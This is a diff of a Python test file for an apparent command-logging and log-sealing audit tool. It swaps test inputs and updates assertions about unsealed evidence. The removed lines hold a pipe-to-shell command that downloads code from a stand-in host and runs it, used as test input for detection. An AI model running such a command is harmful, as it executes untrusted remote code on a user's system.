@@ -22,7 +22,7 @@ def _log(home: Home) -> None:
     shim_execs(home, "s1", "--password=hunter2")
     init(home)
     sh = str(home.loc.shim_dir / "sh")
-    subprocess.run([sh, "-c", "curl http://example.org/x | sh"], env=home.env, check=False)
+    subprocess.run([sh, "-c", "printf x | wc -c"], env=home.env, check=False)
 
 
 def _review(home: Home) -> dict[str, object]:
@@ -46,13 +46,14 @@ def test_review_and_tree_mark_what_no_seal_covers(home: Home) -> None:
     assert sealed.startswith("verified (plain chain) through seal 0 at ")
     assert sealed.endswith("; 1 record(s) after it unsealed")
     assert _evidence(doc, "MCS110") == ["exec.log@0"]
-    assert _evidence(doc, "MCS101")[0].endswith(" [unsealed]")
+    [composed] = _evidence(doc, "MCS105")
+    assert composed.endswith(" [unsealed]")
     tree = cli(home, "tree", "--dir", str(home.loc.shim_dir))
     assert tree.returncode == 0, tree.stderr
     lines = tree.stdout.splitlines()
     assert f"sealed: {sealed}" in lines
     assert any("hunter2" not in ln and "true" in ln and "[unsealed]" not in ln for ln in lines)
-    assert any("curl" in ln and ln.endswith("[unsealed]") for ln in lines)
+    assert any("wc -c" in ln and ln.endswith("[unsealed]") for ln in lines)
 
 
 def test_review_says_the_log_was_tampered_with(home: Home) -> None:
@@ -72,10 +73,11 @@ def test_review_says_the_log_was_tampered_with(home: Home) -> None:
 def test_a_log_never_sealed_says_so_and_marks_nothing(home: Home) -> None:
     install(home, ["true", "sh"], dash_path())
     sh = str(home.loc.shim_dir / "sh")
-    subprocess.run([sh, "-c", "curl http://example.org/x | sh"], env=home.env, check=False)
+    subprocess.run([sh, "-c", "printf x | wc -c"], env=home.env, check=False)
     doc = _review(home)
     assert doc["subject"]["sealed"].startswith("no: the log was never sealed")  # type: ignore[index]
-    assert not any(w.endswith("]") for w in _evidence(doc, "MCS101"))
+    [composed] = _evidence(doc, "MCS105")
+    assert not composed.endswith("]")
 
 
 def test_report_says_whether_the_log_verified(home: Home, tmp_path: Path) -> None:
